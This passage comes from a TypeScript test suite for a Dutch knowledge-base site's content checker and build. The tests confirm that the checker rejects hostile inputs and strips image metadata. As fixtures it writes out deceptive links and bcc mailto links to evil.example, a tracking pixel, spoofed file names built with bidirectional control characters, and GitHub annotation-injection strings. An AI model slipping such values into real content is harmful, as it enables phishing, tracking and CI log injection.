    expect(about('bom.docx')).toEqual([
      `${folder}/bom.docx: the file unpacks to more than ${formatBytes(limits.zipUnpackedBytes)}; save it again from the program that made it, or as PDF`,
    ]);
  });

  it('refuses CSV cells that a spreadsheet runs as formulas, naming the first, and keeps plain numbers', () => {
    expect(files.lines.filter((line) => line.includes('.csv'))).toEqual([
      `${folder}/formules.csv: the cell in row 2, column B starts with "=", which a spreadsheet runs as a formula (2 more cells do too); remove the formula, or put an apostrophe (') before it`,
      `${folder}/puntkomma.csv: the cell in row 3, column A has a part after ";" that starts with "+", which a spreadsheet runs as a formula; remove the formula, or put an apostrophe (') before it`,
    ]);
    expect(accepted()).toContain('bedragen.csv');
  });
});

describe('issue 20: images publish pixels, links say where they go', () => {
  const name = 'Jan Fotograaf';
  const xmp = (description: string) =>
    `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" xmlns:xmp="http://ns.adobe.com/xap/1.0/" ${description}</rdf:Description></rdf:RDF></x:xmpmeta>`;
  const creatorAndCity = xmp(
    `photoshop:City="Aalsmeer"><dc:creator><rdf:Seq><rdf:li>${name}</rdf:li></rdf:Seq></dc:creator>`,
  );
  const gps = {
    GPSLatitudeRef: 'N',
    GPSLatitude: '52/1 15/1 3132/100',
    GPSLongitudeRef: 'E',
    GPSLongitude: '4/1 45/1 4716/100',
  };
  const pixels = (background: string) => sharp({ create: { width: 64, height: 48, channels: 3, background } });
  /** A PNG with one text chunk: tEXt as written, zTXt compressed (sharp writes neither). */
  const pngWithText = async (type: 'tEXt' | 'zTXt', keyword: string, text: string) => {
    const png = await pixels('#33cc66').png().toBuffer();
    const data =
      type === 'tEXt'
        ? Buffer.from(`${keyword}\0${text}`, 'latin1')
        : Buffer.concat([Buffer.from(`${keyword}\0\0`, 'latin1'), deflateSync(Buffer.from(text, 'latin1'))]);
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    // After the signature (8 bytes) and IHDR (25 bytes).
    return Buffer.concat([png.subarray(0, 33), head, body, crc, png.subarray(33)]);
  };
  const withGps = () =>
    pixels('#3366cc')
      .withExif({ IFD0: { Artist: name }, IFD2: { UserComment: 'bel 06-12345678' }, IFD3: gps })
      .withXmp(creatorAndCity)
      .jpeg()
      .toBuffer();
  /** Metadata a camera writes that names no one: the check lets it through, the build must still drop it. */
  const cameraOnly = (background = '#cc6633') =>
    pixels(background)
      .withExif({ IFD0: { Make: 'Canon', Model: 'EOS 5D', Software: 'Lightroom' } })
      .withXmp(xmp('xmp:CreatorTool="Lightroom">'))
      .jpeg()
      .toBuffer();
  const photoEntry = entry(
    'Een foto van de locatie:\n\n![De locatie](foto.jpg)\n\n<Figure src="figuur.jpg" alt="Een figuur" />\n\nDe [foto als bestand](foto.jpg).',
  );
  const how =
    'which would be published with it; save a copy without metadata and add that instead (in Windows: Properties › Details › Remove Properties and Personal Information; on a phone or in an image program: export or share it without location and metadata)';
  const build = (content: string, out: string) =>
    runNode(['node_modules/astro/bin/astro.mjs', 'build'], {
      KB_CONTENT_DIR: content,
      KB_OUT_DIR: out,
      KB_CACHE_DIR: `${out}-cache`,
    });
  const filesUnder = (folder: string): string[] =>
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((item) => item.isFile())
      .map((item) => join(item.parentPath, item.name));
  /** What an independent reader (exiftool, where installed) finds in the images of a build: GPS, names, camera. */
  const exiftoolFinds = (out: string): string | undefined => {
    try {
      return execFileSync(
        'exiftool',
        [
          '-q',
          '-q',
          '-a',
          '-G1',
          '-r',
          '-gps:all',
          '-exif:all',
          '-xmp:all',
          '-iptc:all',
          '-png:author',
          '-png:copyright',
          out,
        ],
        {
          encoding: 'utf8',
        },
      );
    } catch (error) {
      if ((error as NodeJS.ErrnoException).code === 'ENOENT') return undefined;
      throw error;
    }
  };

  it('refuses an image whose metadata holds a GPS position, names, places or a phone number, in every image type', async () => {
    const content = hostileTree();
    const folder = join(content, 'practices/goede-praktijk');
    writeFileSync(join(folder, 'locatie.jpg'), await withGps());
    await pixels('#3366cc').withExif({ IFD3: gps }).webp().toFile(join(folder, 'locatie.webp'));
    await pixels('#3366cc').withXmp(creatorAndCity).avif().toFile(join(folder, 'locatie.avif'));
    await pixels('#3366cc').withXmp(creatorAndCity).png().toFile(join(folder, 'xmp.png'));
    writeFileSync(join(folder, 'auteur.png'), await pngWithText('tEXt', 'Author', name));
    writeFileSync(join(folder, 'gecomprimeerd.png'), await pngWithText('zTXt', 'Comment', 'mail jan@example.org'));
    writeFileSync(join(folder, 'camera.jpg'), await cameraOnly());
    expect((await lines(content)).filter((line) => line.startsWith('practices/goede-praktijk'))).toEqual([
      `practices/goede-praktijk/auteur.png: the image's metadata holds names or places (PNG Author), ${how}`,
      `practices/goede-praktijk/gecomprimeerd.png: the image's metadata holds a phone number or email address (PNG Comment), ${how}`,
      `practices/goede-praktijk/locatie.avif: the image's metadata holds names or places (XMP creator, XMP City), ${how}`,
      `practices/goede-praktijk/locatie.jpg: the image's metadata holds a GPS position, names or places (Artist, XMP creator, XMP City), a phone number or email address (UserComment), ${how}`,
      `practices/goede-praktijk/locatie.webp: the image's metadata holds a GPS position, ${how}`,
      `practices/goede-praktijk/xmp.png: the image's metadata holds names or places (XMP creator, XMP City), ${how}`,
    ]);
  });

  it('a build stops at a photo with GPS, and nothing with its position or its name reaches dist/', async () => {
    const root = fixtureCopy('valid', { 'practices/sec-foto/nl.mdx': photoEntry });
    roots.push(root);
    writeFileSync(join(root, 'content/practices/sec-foto/foto.jpg'), await withGps());
    writeFileSync(join(root, 'content/practices/sec-foto/figuur.jpg'), await withGps());
    const out = join(root, 'dist');
    const { status, output } = build(join(root, 'content'), out);
    expect(status).not.toBe(0);
    expect(output).toContain(`practices/sec-foto/foto.jpg: the image's metadata holds a GPS position`);
    const published = existsSync(out) ? filesUnder(out) : [];
    expect(published.filter((file) => readFileSync(file).includes(name))).toEqual([]);
    if (existsSync(out)) expect(exiftoolFinds(out) ?? '').not.toMatch(/GPS|Artist|Creator/);
  });

  describe('a build of a photo the check accepts', async () => {
    const root = fixtureCopy('valid', { 'practices/sec-foto/nl.mdx': photoEntry });
    roots.push(root);
    writeFileSync(join(root, 'content/practices/sec-foto/foto.jpg'), await cameraOnly());
    writeFileSync(join(root, 'content/practices/sec-foto/figuur.jpg'), await cameraOnly('#66cc33'));
    const out = join(root, 'dist');
    const result = build(join(root, 'content'), out);
    const images = () => filesUnder(out).filter((file) => /\.(?:jpe?g|png|webp|avif|gif)$/.test(file));

    it('publishes the linked photo at /files/ without metadata, and not the one shown only as a figure', async () => {
      expect(result.output).not.toContain('content problem');
      expect(result.status, result.output.slice(-2000)).toBe(0);
      const files = readdirSync(join(out, 'files/practices/sec-foto'));
      expect(files).toEqual(['foto.jpg']);
      const published = await sharp(join(out, 'files/practices/sec-foto/foto.jpg')).metadata();
      expect([published.width, published.exif, published.xmp, published.iptc]).toEqual([
        64,
        undefined,
        undefined,
        undefined,
      ]);
    });

    it('leaves no original in _astro/ and no camera metadata in any image of dist/', () => {
      const page = readFileSync(join(out, 'nl/practices/sec-foto/index.html'), 'utf8');
      expect(page).toMatch(/\/_astro\/figuur\.[\w-]+_[\w-]+\.avif/);
      expect(readdirSync(join(out, '_astro')).filter((file) => /^(?:foto|figuur)\.[\w-]+\.jpe?g$/.test(file))).toEqual(
        [],
      );
      const marked = images().filter((file) =>
        ['Canon', 'Lightroom', 'EOS 5D'].some((text) => readFileSync(file).includes(text)),
      );
      expect(marked).toEqual([]);
      expect(exiftoolFinds(join(out, '_astro')) ?? '').toBe('');
      expect(exiftoolFinds(join(out, 'files')) ?? '').toBe('');
    });
  });

  it('refuses mailto with other recipients, user info in any web address and link text naming another address', async () => {
    const content = hostileTree((tree) => {
      writeFileSync(
        join(tree, 'organisations/sec-userinfo.yaml'),
        'id: sec-userinfo\nname: { nl: Gemeente, uk: Gemeente, en: Gemeente }\nwebsite: https://www.aalsmeer.nl@evil.example/\n',
      );
      mkdirSync(join(tree, 'practices/sec-links'));
      writeFileSync(
        join(tree, 'practices/sec-links/nl.mdx'),
        `---\n${frontmatter}\nsources:\n  - title: Gemeente Aalsmeer\n    url: https://www.aalsmeer.nl@evil.example/\n---\n\n` +
          '[Mail ons](mailto:redactie@example.org?subject=Vraag&bcc=verzamel@evil.example) of [cc](mailto:redactie@example.org?CC=a@evil.example&body=x).\n\n' +
          'De [gemeente](https://www.aalsmeer.nl@evil.example/).\n\n' +
          'Zie [https://www.vng.nl/](https://evil.example/), [vng.nl][vng] en [redactie@vng.nl](mailto:x@evil.example).\n\n' +
          'Goed: [www.vng.nl](https://vng.nl/), [de VNG](https://www.vng.nl/) en [mail](mailto:redactie@example.org?subject=a&body=b).\n\n' +
          '[vng]: https://evil.example/\n',
      );
    });
    expect((await lines(content)).filter((line) => /sec-(?:links|userinfo)/.test(line))).toEqual([
      'organisations/sec-userinfo.yaml: website: web address "https://www.aalsmeer.nl@evil.example/" goes to evil.example: the part before the @ only hides where it leads; write the address without it',
      'practices/sec-links/nl.mdx: sources[0].url: web address "https://www.aalsmeer.nl@evil.example/" goes to evil.example: the part before the @ only hides where it leads; write the address without it',
      'practices/sec-links/nl.mdx:11:1: mailto link "mailto:redactie@example.org?subject=V..." adds bcc; a mailto link may carry only subject and body: leave out the other recipients',
      'practices/sec-links/nl.mdx:11:84: mailto link "mailto:redactie@example.org?CC=a@evil..." adds cc; a mailto link may carry only subject and body: leave out the other recipients',
      'practices/sec-links/nl.mdx:13:4: web address "https://www.aalsmeer.nl@evil.example/" goes to evil.example: the part before the @ only hides where it leads; write the address without it',
      'practices/sec-links/nl.mdx:15:5: link text "https://www.vng.nl/" looks like an address on www.vng.nl, but the link goes to evil.example; write the address the link goes to, or words',
      'practices/sec-links/nl.mdx:15:51: link text "vng.nl" looks like an address on vng.nl, but the link goes to evil.example; write the address the link goes to, or words',
      'practices/sec-links/nl.mdx:15:68: link text "redactie@vng.nl" looks like an email address, but the link goes to "mailto:x@evil.example"; write the address the link goes to, or words',
    ]);
  });

  it('the page renderer stops at the same links when the check is skipped', () => {
    const place = {
      collection: 'practices',
      slug: 'sec-links',
      lang: 'nl',
      file: 'practices/sec-links/nl.mdx',
    } as const;
    expect(() => renderEntryBody('[x](mailto:a@example.org?bcc=b@evil.example)', place)).toThrow(
      'practices/sec-links/nl.mdx:1:1: mailto link "mailto:a@example.org?bcc=b@evil.example" adds bcc; a mailto link may carry only subject and body: leave out the other recipients',
    );
    expect(() => renderEntryBody('[https://www.vng.nl/](https://evil.example/)', place)).toThrow(
      'practices/sec-links/nl.mdx:1:1: link text "https://www.vng.nl/" looks like an address on www.vng.nl, but the link goes to evil.example; write the address the link goes to, or words',
    );
  });

  it("refuses another site's image in a newsletter introduction, and the email shows none", async () => {
    const intro = 'Welkom.\n\n![Logo](https://evil.example/pixel.gif?track=1)\n\n![Ons logo](/icon-192.png)\n';
    const content = hostileTree((tree) =>
      writeFileSync(
        join(tree, 'newsletters/2026-10/en.mdx'),
        `---\ntitle: Newsletter\npublished: 2026-10-01\nentries: [practices/goede-praktijk]\ntranslation: { from: nl, reviewed: false }\n---\n\n${intro}`,
      ),
    );
    expect((await lines(content)).filter((line) => line.startsWith('newsletters/'))).toEqual([
      'newsletters/2026-10/en.mdx:10:1: image "https://evil.example/pixel.gif?track=1" comes from another site, which would learn who opens the newsletter; put the image on the site and write its path (/…), or leave it out',
    ]);
    const html = await renderEmailHtml(testIssue(intro));
    expect(html).not.toContain('evil.example');
    expect(html).toContain('<img src="https://kennisbank.example.org/icon-192.png" alt="Ons logo">');
    expect(html).toContain('img-src https://kennisbank.example.org;');
  });
});

describe('bounded work and names without controls (issue 20: items 4 and 6)', () => {
  const seconds = async (work: () => Promise<unknown>) => {
    const started = performance.now();
    await work();
    return (performance.now() - started) / 1000;
  };
  const checkOf = async (files: Record<string, string>) => {
    const root = fixtureCopy('valid', files);
    roots.push(root);
    return (await lines(join(root, 'content'))).filter((line) =>
      Object.keys(files).some((file) => line.startsWith(file.split('/').slice(0, 2).join('/'))),
    );
  };
  const longWords = `${'huurwoningen'.repeat(833)}\n${'woningen'.repeat(1249)}`;

  it('checks 19 lines of `![`, each 10,000 characters, within seconds', async () => {
    // Before: 15 s to a minute (a regex scanned to the end of the body from every `![`).
    const images = Array.from({ length: 19 }, () => '!['.repeat(5000)).join('\n');
    let found: string[] = [];
    expect(
      await seconds(async () => (found = await checkOf({ 'practices/beelden/nl.mdx': entry(images) }))),
    ).toBeLessThan(5);
    expect(found).toEqual([]);
  });

  it('reads 19 lines of `<aaaa…`, each 10,000 characters, in well under a second', () => {
    // Before: 3.5 s (the tag regex of the nesting scan tried every shorter tag name against the line).
    const tags = Array.from({ length: 19 }, () => `<${'a'.repeat(9999)}`).join('\n');
    const started = performance.now();
    const found = checkEntryBody(tags, parseEntryBody, {});
    expect(performance.now() - started).toBeLessThan(1000);
    expect(found.map((violation) => violation.message)).toEqual([
      'MDX syntax error: Unexpected character after `<`, expected a valid JSX tag (note: to create a link in MDX, use `[text](url)`); write \\{ and \\< for a literal brace or angle bracket',
    ]);
  });

  it('checks and indexes two 10,000-letter "compound" words within seconds of a normal page', async () => {
    expect(await seconds(() => checkOf({ 'practices/lang/nl.mdx': entry(longWords) }))).toBeLessThan(5);
    // The build's index step, called on a built page: before, the compound splitter took over a minute.
    const indexed = async (words: string) => {
      const dist = mkdtempSync(join(tmpdir(), 'kb-index-'));
      roots.push(dist);
      mkdirSync(join(dist, 'nl/practices/lang'), { recursive: true });
      writeFileSync(
        join(dist, 'nl/practices/lang/index.html'),
        `<!doctype html><html lang="nl"><head><title>Lang</title></head><body><article data-pagefind-body><h1>Lang</h1><p>Huurwoningen voor de opvang. ${words}</p></article></body></html>`,
      );
      return seconds(() => buildSearchIndex(dist));
    };
    await indexed(''); // loads the dictionaries
    const normal = await indexed('');
    expect(await indexed(longWords)).toBeLessThan(normal + 10);
  }, 120_000);

  const bidiMessage = 'U+202E (a bidirectional control character, which can show text in another order)';

  it('refuses a file name with a bidirectional control: factuur\u202Efdp.docx shows as «factuurxcod.pdf»', async () => {
    expect(
      await checkOf({
        'practices/goede-praktijk/factuur\u202Efdp.docx': 'PK\u0003\u0004',
        'practices/goede-praktijk/\u2066plan\u2069.pdf': '%PDF-1.4\n',
      }),
    ).toEqual([
      `practices/goede-praktijk/factuur\\u{202e}fdp.docx: the name holds ${bidiMessage}; rename it`,
      `practices/goede-praktijk/\\u{2066}plan\\u{2069}.pdf: the name holds U+2066 (a bidirectional control character, which can show text in another order); rename it`,
    ]);
  });

  it('refuses line breaks, NUL, other controls and bidirectional controls in titles and every other text field', async () => {
    const fields = [
      'title: "Regel\\neen"',
      'summary: "Deze bijdrage test wat de build doet met\\r vijandige invoer van buiten."',
      'themes: [housing]',
      'published: 2026-05-01',
      'tags: ["wonen\\u202e"]',
      'contact: { role: "Team\\0wonen" }',
      'sources: [{ title: "Rapport\\u200f", url: "https://example.org/\\u202ephp.pdf", file: "x\\u2066.pdf" }]',
    ];
    const newsletter =
      '---\ntitle: "Nieuws\\u0085brief"\npublished: 2026-10-01\nentries: [practices/goede-praktijk]\n---\n\nIntro.\n';
    expect(
      await checkOf({
        'practices/velden/nl.mdx': `---\n${fields.join('\n')}\n---\n\nTekst.\n`,
        'guides/handreiking/en.mdx': `---\ntitle: Guide\nsummary: A guide that tests what the build does with hostile input.\nthemes: [housing]\npublished: 2026-05-01\naudience: "Officials\\u0007"\n---\n\nText.\n`,
        'newsletters/2026-10/uk.mdx': newsletter,
      }),
    ).toEqual([
      'guides/handreiking/en.mdx: audience: holds U+0007 (a control character); remove it',
      'newsletters/2026-10/uk.mdx: title: holds U+0085 (a control character); remove it',
      'practices/velden/nl.mdx: contact.role: holds U+0000 (a control character); remove it',
      `practices/velden/nl.mdx: sources[0].file: holds U+2066 (a bidirectional control character, which can show text in another order); remove it`,
      'practices/velden/nl.mdx: sources[0].file: "x\\u{2066}.pdf" not found in the entry folder; expected a file beside nl.mdx',
      'practices/velden/nl.mdx: sources[0].title: holds U+200F (a bidirectional control character, which can show text in another order); remove it',
      `practices/velden/nl.mdx: sources[0].url: holds ${bidiMessage}; remove it`,
      'practices/velden/nl.mdx: summary: holds U+000D (a line break); remove it',
      `practices/velden/nl.mdx: tags[0]: holds ${bidiMessage}; remove it`,
      'practices/velden/nl.mdx: title: holds U+000A (a line break); remove it',
    ]);
  });

  it('refuses them in the names of data files too', async () => {
    expect(
      await checkOf({
        'organisations/sec-naam.yaml':
          'id: sec-naam\nname: { nl: "VNG\\u202eInternational", uk: "A\\u007f", en: "A\\u2028B" }\n',
        'municipalities/sec-regio.yaml':
          'id: sec-regio\nname: { nl: Regio, uk: Regio, en: Regio }\ncountry: NL\nregion: { nl: "Noord\\u061c", uk: R, en: R }\npilot: false\n',
      }),
    ).toEqual([
      'municipalities/sec-regio.yaml: region.nl: holds U+061C (a bidirectional control character, which can show text in another order); remove it',
      'organisations/sec-naam.yaml: name.en: holds U+2028 (a line break); remove it',
      `organisations/sec-naam.yaml: name.nl: holds ${bidiMessage}; remove it`,
      'organisations/sec-naam.yaml: name.uk: holds U+007F (a control character); remove it',
    ]);
  });
});

describe('issue 21: GitHub annotations of the check (item 2)', () => {
  it('are one command a line, with every name escaped, whatever the hostile fixtures hold', async () => {
    const content = hostileTree((tree) => {
      writeFileSync(join(tree, 'practices/sec-attachments/a\r\n::error file=ci.yml::b.pdf'), '%PDF-1.4\n');
      writeFileSync(join(tree, 'practices/sec-attachments/100%,x:y.exe'), 'MZ');
      writeFileSync(join(tree, 'practices/sec-attachments/bel\u0007\u001b[2J.pdf'), '%PDF-1.4\n');
      writeFileSync(
        join(tree, 'practices/sec-image-alt/nl.mdx'),
        entry('<Callout type="tip\r\n::error::x%0A\u202e">y</Callout>'),
      );
    });
    const { problems } = await checkContent({ root: content, today, production: true, cwd: content });
    const annotations = problems.map((problem) => githubAnnotation(problem, 'error', content));
    expect(annotations.length).toBeGreaterThan(10);
    for (const line of annotations) {
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029\u202e]/u);
      // The properties end at the first `::`; none of them holds a `:` or `,` of its own.
      expect(line).toMatch(/^::error file=[^:,]+(,line=\d+)?(,col=\d+)?,title=[^:,]+::[^\r\n]*$/);
    }
    expect(annotations.filter((line) => /pdf|exe|Callout/.test(line) && /%|\\u|\\r/.test(line))).toEqual([
      '::error file=practices/sec-attachments/100%25%2Cx%3Ay.exe,title=Content check::.exe files are not published; the allowed types are pdf, docx, xlsx, pptx, odt, ods, odp, csv, jpg, jpeg, png, webp, avif, gif',
      '::error file=practices/sec-attachments/a\\r\\n%3A%3Aerror file=ci.yml%3A%3Ab.pdf,title=Content check::the name holds U+000D (a line break); rename it',
      '::error file=practices/sec-attachments/bel\\u{0007}\\u{001b}[2J.pdf,title=Content check::the name holds U+0007 (a control character); rename it',
      '::error file=practices/sec-image-alt/nl.mdx,line=8,col=1,title=Content check::<Callout>: type="tip\\r\\n::error::x%250A\\u{202e}" is not allowed; expected one of note, tip, caution',
    ]);
  });

  it('put a field problem on the line of that field', async () => {
    const content = hostileTree((tree) =>
      writeFileSync(
        join(tree, 'practices/sec-image-alt/nl.mdx'),
        `---\ntitle: Probe\nsummary: Deze bijdrage test wat de build doet met vijandige invoer van buiten.\nthemes:\n  - housing\n  - wonen\npublished: 2026-05-01\n---\n\nTekst.\n`,
      ),
    );
    const { problems } = await checkContent({ root: content, today, production: true, cwd: content });
    expect(
      problems.filter((p) => p.file.includes('sec-image-alt')).map((p) => githubAnnotation(p, 'error', content)),
    ).toEqual([
      '::error file=practices/sec-image-alt/nl.mdx,line=6,title=Content check%3A themes[1]::themes[1]: unknown theme "wonen"; expected one of housing, economy, services',
    ]);
  });
});
